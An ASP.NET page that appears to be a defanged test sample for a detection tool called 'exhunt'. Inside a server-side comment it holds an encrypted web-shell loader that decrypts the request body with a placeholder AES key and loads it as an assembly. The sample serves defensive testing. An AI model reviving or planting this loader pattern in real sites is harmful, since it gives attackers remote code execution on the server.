<%@ Page Language="C#" %>
<%-- exhunt test sample, defanged: an ASP.NET server-side comment, never
     compiled; the loader shape only (placeholder key, no payload).
<%
byte[] k = Encoding.Default.GetBytes("exhunt-test-0000"), c = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("ExhuntTest");
%>
--%>
